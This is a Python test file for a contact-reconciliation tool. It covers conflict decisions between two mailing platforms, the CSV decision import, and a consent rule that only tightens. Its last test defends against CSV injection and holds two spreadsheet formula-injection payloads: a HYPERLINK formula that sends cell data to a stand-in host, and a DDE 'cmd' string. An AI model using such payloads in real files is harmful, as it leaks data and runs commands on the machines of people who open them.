"""The data team's conflict decisions: `decision_ops` (pure, contact_recon/engine/decisions.py) and
`recon conflicts import` (the file and the table: contact_recon/store/decisions.py).

The pure function is pinned with small frames and one Hypothesis law (consent is never loosened); the import
runs against a real plan of both sandboxes (its conflicts.csv filled in, as a person would) and the store.
"""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from contact_recon.cli.main import app
from contact_recon.engine.decisions import DECISIONS, DecisionFileError, decision_ops
from contact_recon.engine.identity import match_identities, merge_sides
from contact_recon.model.ops import OPS_SCHEMA, op_id
from contact_recon.model.records import MERGE_SIDE
from contact_recon.stages.plan import latest_frames
from contact_recon.store.decisions import Decisions, read_decisions
from tests.support.servers import Sandboxes
from tests.support.worlds import World, awkward_fixture, planning_world


@pytest.fixture
def world(sandboxes: Sandboxes, tmp_path: Path) -> Iterator[World]:
    """test_pipeline's world: the awkward fixture planned against both sandboxes."""
    yield from planning_world(sandboxes, tmp_path, *awkward_fixture())


TIGHT = {"tinyemail": ("unsubscribed", "bounced", "spam"), "ghl": ("dnd",)}


def side(*people: dict[str, Any]) -> pl.DataFrame:
    """A MERGE_SIDE frame of people given by key and a few fields."""
    rows = [{name: person.get(name, [] if name in ("tags", "lists") else None) for name in MERGE_SIDE}
            for person in people]
    return pl.DataFrame(rows, schema=MERGE_SIDE)


def decisions(*rows: tuple[str, str, str, str | None]) -> pl.DataFrame:
    return pl.DataFrame([dict(zip(DECISIONS, row, strict=True)) for row in rows], schema=DECISIONS)


def contents(ops: pl.DataFrame) -> set[tuple[Any, ...]]:
    return set(ops.select("target", "kind", "key", "field", "expected", "new", "reason").iter_rows())


TE = side({"key": "c1", "first_name": "Ann", "phone": "+14155550100", "consent": "subscribed"},
          {"key": "c2", "first_name": "  ", "consent": "bounced"},
          {"key": "te:x@example.com", "first_name": "Xavier", "consent": "subscribed"})
GHL = side({"key": "c1", "first_name": "Anne", "phone": "+14155550199", "consent": "dnd"},
           {"key": "c2", "first_name": "Bob", "consent": "subscribed"},
           {"key": "c3", "first_name": "Cy", "consent": "subscribed"})


# ------------------------------------------------------------------------------------- decision_ops


def test_a_side_decision_writes_that_value_to_the_other_side_only() -> None:
    ops = decision_ops(decisions(("c1", "first_name", "ghl", None), ("c2", "first_name", "tinyemail", None)), TE, GHL)

    assert ops.schema == OPS_SCHEMA
    assert contents(ops) == {
        ("tinyemail", "update", "c1", "first_name", "Ann", "Anne", "decided_ghl"),
        # TinyEmail's blank wins: GHL is cleared (blank and whitespace are one value)
        ("ghl", "update", "c2", "first_name", "Bob", None, "decided_tinyemail"),
    }
    assert all(row["op_id"] == op_id(*[row[c] for c in ("target", "kind", "key", "field", "expected", "new",
                                                          "reason")]) for row in ops.iter_rows(named=True))


def test_a_value_decision_writes_every_side_that_differs() -> None:
    ops = decision_ops(decisions(("c1", "phone", "value", "+14155550199"), ("c3", "first_name", "value", " Cyrus ")),
                       TE, GHL)

    assert contents(ops) == {
        ("tinyemail", "update", "c1", "phone", "+14155550100", "+14155550199", "decided_value"),  # GHL has it
        ("ghl", "update", "c3", "first_name", "Cy", "Cyrus", "decided_value"),  # c3 is not on TinyEmail
    }


def test_skips_missing_sources_and_email_decisions_write_nothing() -> None:
    ops = decision_ops(decisions(
        ("c1", "first_name", "skip", None),
        ("c3", "first_name", "tinyemail", None),  # the chosen side does not hold the person: nothing to copy
        ("nobody", "first_name", "value", "Zed"),  # a person on neither side
        ("c1", "email", "value", "new@example.com"),  # emails change through identity review only
        ("c2", "first_name", "value", "Bob"),  # TinyEmail blank -> Bob; GHL already Bob
    ), TE, GHL)

    assert contents(ops) == {("tinyemail", "update", "c2", "first_name", None, "Bob", "decided_value")}
    assert decision_ops(decisions(), TE, GHL).schema == OPS_SCHEMA


def test_consent_decisions_only_tighten() -> None:
    ops = decision_ops(decisions(
        ("c1", "consent", "ghl", None),  # GHL dnd wins: TinyEmail unsubscribed
        ("c2", "consent", "ghl", None),  # GHL subscribed would loosen TinyEmail's bounced: ignored
        ("c3", "consent", "value", "spam"),  # tight value: GHL dnd (c3 is not on TinyEmail)
        ("te:x@example.com", "consent", "value", "subscribed"),  # a loose value is never written
    ), TE, GHL)

    assert contents(ops) == {
        ("tinyemail", "consent_tighten", "c1", "consent", "subscribed", "unsubscribed", "decided_ghl"),
        ("ghl", "consent_tighten", "c3", "consent", "subscribed", "dnd", "decided_value"),
    }
    loosen = decision_ops(decisions(("c1", "consent", "tinyemail", None)), TE, GHL)
    assert loosen.height == 0  # TinyEmail subscribed would turn GHL's dnd off


CONSENTS = st.sampled_from([None, "subscribed", "unsubscribed", "bounced", "spam", "inactive", "dnd"])


@settings(max_examples=200, deadline=None)
@given(te=CONSENTS, ghl=CONSENTS, choice=st.sampled_from(["ghl", "tinyemail", "value", "skip"]), value=CONSENTS)
def test_no_consent_decision_ever_loosens(te: str | None, ghl: str | None, choice: str, value: str | None) -> None:
    ops = decision_ops(decisions(("k", "consent", choice, value if choice == "value" else None)),
                       side({"key": "k", "consent": te}), side({"key": "k", "consent": ghl}))

    for op in ops.iter_rows(named=True):
        assert op["kind"] == "consent_tighten" and op["new"] in TIGHT[op["target"]]
        assert op["expected"] not in TIGHT[op["target"]]  # only a loose side is written
    assert ops.height == len({op["target"] for op in ops.iter_rows(named=True)})


# --------------------------------------------------------------------------------------------- import


def filled(path: Path, conflicts: Path, answers: dict[tuple[str, str], tuple[str, str]],
           extra: list[dict[str, str]] = ()) -> Path:
    """conflicts.csv with the decision and value columns filled in for `answers` ((key, field) -> (decision, value))."""
    with conflicts.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    columns = list(dict.fromkeys([*rows[0], "decision", "value"]))  # conflicts.csv has them, empty
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, columns)
        writer.writeheader()
        for row in rows:
            decision, value = answers.get((row["key"], row["field"]), ("", ""))
            writer.writerow({**row, "decision": decision, "value": value})
        for row in extra:
            writer.writerow({**dict.fromkeys(columns, ""), **row})
    return path


def stored(w: World) -> list[dict[str, Any]]:
    return w.store._frame("SELECT * FROM conflict_decisions ORDER BY key, field").to_dicts()


def import_file(w: World, path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    for name, value in {**w.env(), "COLUMNS": "200"}.items():
        monkeypatch.setenv(name, value)
    return CliRunner().invoke(app, ["conflicts", "import", str(path)])


def test_recon_conflicts_import_stores_the_decisions_for_the_next_run(
        world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: F811
    result = world.plan()
    renamed = sorted(world.edited["renamed"])
    bad_phone = world.edited["bad_phone"][0]
    assert {(k, "first_name") for k in renamed} <= set(result.conflicts.select("key", "field").iter_rows())
    answers = {(renamed[0], "first_name"): ("ghl", ""), (renamed[1], "first_name"): ("value", " Ann-Marie "),
               (bad_phone, "phone"): ("TinyEmail", "")}
    path = filled(tmp_path / "decided.csv", result.conflicts_path, answers)

    imported = import_file(world, path, monkeypatch)
    assert imported.exit_code == 0, imported.output
    undecided = result.conflicts.height - 3
    assert f"imported 3 decision(s) from {path} (ghl 1, tinyemail 1, value 1); {undecided} row(s) without a " \
           f"decision left alone" in imported.output
    rows = stored(world)
    assert [(r["key"], r["field"], r["choice"], r["value"]) for r in rows] == sorted([
        (renamed[0], "first_name", "ghl", None), (renamed[1], "first_name", "value", "Ann-Marie"),
        (bad_phone, "phone", "tinyemail", None)])
    assert all(r["used_by_run"] is None and r["source"] == str(path.resolve()) and r["imported_at"] for r in rows)

    # the next run turns them into ops against the sides as they are then
    frames = latest_frames(world.store, [world.location])
    ghl_side, te_side = merge_sides(match_identities(frames["ghl_contacts"], frames["te_customers"],
                                                     world.store.load_id_map(), locations=[world.location]),
                                    frames["ghl_contacts"], frames["te_customers"])
    ops = decision_ops(Decisions(world.store).pending(), te_side, ghl_side)
    ghl_name = ghl_side.filter(pl.col("key") == renamed[0])["first_name"][0]
    te_phone = te_side.filter(pl.col("key") == bad_phone)["phone"][0]
    assert contents(ops) == {
        ("tinyemail", "update", renamed[0], "first_name", "Renamed", ghl_name, "decided_ghl"),
        ("tinyemail", "update", renamed[1], "first_name", "Renamed", "Ann-Marie", "decided_value"),
        ("ghl", "update", renamed[1], "first_name", ghl_side.filter(pl.col("key") == renamed[1])["first_name"][0],
         "Ann-Marie", "decided_value"),
        ("ghl", "update", bad_phone, "phone", "call me maybe", te_phone, "decided_tinyemail"),
    }

    # importing again replaces a decision on the same key and field
    again = filled(tmp_path / "again.csv", result.conflicts_path, {(renamed[0], "first_name"): ("skip", "")})
    assert import_file(world, again, monkeypatch).exit_code == 0
    assert [(r["choice"], r["value"]) for r in stored(world) if r["key"] == renamed[0]] == [("skip", None)]


def test_a_bad_decisions_file_names_each_bad_line_and_imports_nothing(
        world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: F811
    result = world.plan()
    renamed = sorted(world.edited["renamed"])
    answers = {(renamed[0], "first_name"): ("maybe", ""), (renamed[1], "first_name"): ("value", "")}
    extra = [{"key": "no-such-person", "field": "city", "decision": "ghl"},
             {"key": renamed[0], "field": "shoe_size", "decision": "ghl"},
             {"key": renamed[1], "field": "phone", "decision": "value", "value": "not a phone"},
             {"key": renamed[1], "field": "company", "decision": "ghl", "value": "Paris"},
             {"key": renamed[1], "field": "consent", "decision": "value", "value": "maybe later"},
             {"key": renamed[1], "field": "city", "decision": "ghl"},  # fine on its own
             {"key": renamed[1], "field": "city", "decision": "skip"},
             {"key": renamed[1], "field": "", "decision": "tinyemail"}]
    path = filled(tmp_path / "bad.csv", result.conflicts_path, answers, extra)
    lines = path.read_text(encoding="utf-8").splitlines()
    line_of = {(r["key"], r["field"]): i for i, r in enumerate(csv.DictReader(lines), start=2)}
    first, second = line_of[(renamed[0], "first_name")], line_of[(renamed[1], "first_name")]
    n = len(lines)

    refused = import_file(world, path, monkeypatch)
    assert refused.exit_code == 1 and "Traceback" not in refused.output
    out = " ".join(refused.output.split())
    for expected in ["nothing imported, 9 problem(s)",
                     f"line {first}: decision 'maybe' is not one of ghl, tinyemail, value, skip",
                     f"line {second}: decision 'value' needs a value",
                     f"line {n - 7}: unknown key 'no-such-person'",
                     f"line {n - 6}: unknown field 'shoe_size'",
                     f"line {n - 5}: phone 'not a phone' is not a phone number",
                     f"line {n - 4}: a value is only read with decision 'value'",
                     f"line {n - 3}: consent 'maybe later' is not one of",
                     f"line {n - 1}: {renamed[1]} city was already decided on line {n - 2}",
                     f"line {n}: a conflict with no field"]:
        assert expected in out, expected
    assert stored(world) == []

    no_column = tmp_path / "plain.csv"
    pl.read_csv(result.conflicts_path, infer_schema=False).drop("decision").write_csv(no_column)
    refused = import_file(world, no_column, monkeypatch)
    assert refused.exit_code == 1 and "line 1: missing column(s) decision" in " ".join(refused.output.split())
    missing = import_file(world, tmp_path / "nowhere.csv", monkeypatch)
    assert missing.exit_code == 1 and "cannot read the file" in missing.output and stored(world) == []


def test_read_decisions_knows_the_store_keys_and_normalises_values(world: World, tmp_path: Path) -> None:  # noqa: F811
    result = world.plan()
    keys = Decisions(world.store).known_keys()
    contacts = next(iter(world.fixture["ghl"]["locations"].values()))["contacts"]
    assert {c["id"] for c in contacts} <= keys
    assert {f"te:{c['email'].lower()}" for c in world.fixture["tinyemail"]["customers"]} & keys
    renamed = sorted(world.edited["renamed"])
    path = filled(tmp_path / "d.csv", result.conflicts_path, {}, [
        {"key": renamed[0], "field": "phone", "decision": "value", "value": "(415) 555-0100"},
        {"key": renamed[0], "field": "birthday", "decision": "Value", "value": "3/4/1990"},
        {"key": renamed[0], "field": "consent", "decision": "value", "value": "DND"}])

    read = read_decisions(path, keys)
    assert read.undecided == result.conflicts.height and read.rows == result.conflicts.height + 3
    assert read.decisions.rows() == [(renamed[0], "phone", "value", "+14155550100"),
                                     (renamed[0], "birthday", "value", "1990-03-04"),
                                     (renamed[0], "consent", "value", "dnd")]
    with pytest.raises(DecisionFileError, match="unknown key"):
        read_decisions(path, set())


ATTACK = '=HYPERLINK("http://evil.example/?leak="&B3,"Click")'


def test_formula_like_names_are_inert_in_the_csv_and_in_artifacts_and_come_back_unharmed(
        sandboxes: Sandboxes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A TinyEmail first name that is a spreadsheet formula: quoted in conflicts.csv, read back as it was by
    `recon conflicts import` (a `tinyemail` decision and a `value` decision pasting the cell as shown)."""
    from contact_recon.report.build import load_conflicts

    fixture, edited = awkward_fixture()
    victim, other = sorted(edited["renamed"])
    contacts = {c["id"]: c for c in next(iter(fixture["ghl"]["locations"].values()))["contacts"]}
    customers = {c["email"]: c for c in fixture["tinyemail"]["customers"]}
    customers[contacts[victim]["email"]]["firstName"] = ATTACK
    customers[contacts[other]["email"]]["firstName"] = "+cmd|' /C calc'!A0"
    for w in planning_world(sandboxes, tmp_path, fixture, edited):
        result = w.plan()
        with result.conflicts_path.open(newline="", encoding="utf-8") as handle:
            rows = {(r["key"], r["field"]): r for r in csv.DictReader(handle)}
        cells = [value for row in rows.values() for value in row.values()]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
        assert rows[(victim, "first_name")]["tinyemail"] == "'" + ATTACK  # inert, and still readable
        assert load_conflicts(w.settings.data_dir, result.run_id).filter(  # the report shows it as it is
            pl.col("key") == victim)["tinyemail"][0] == ATTACK
        shown = rows[(other, "first_name")]["tinyemail"]
        path = filled(tmp_path / "decided.csv", result.conflicts_path,
                      {(victim, "first_name"): ("tinyemail", ""), (other, "first_name"): ("value", shown)})
        imported = import_file(w, path, monkeypatch)
        assert imported.exit_code == 0, imported.output
        assert [(r["key"], r["choice"], r["value"]) for r in stored(w)] == sorted(
            [(victim, "tinyemail", None), (other, "value", "+cmd|' /C calc'!A0")])
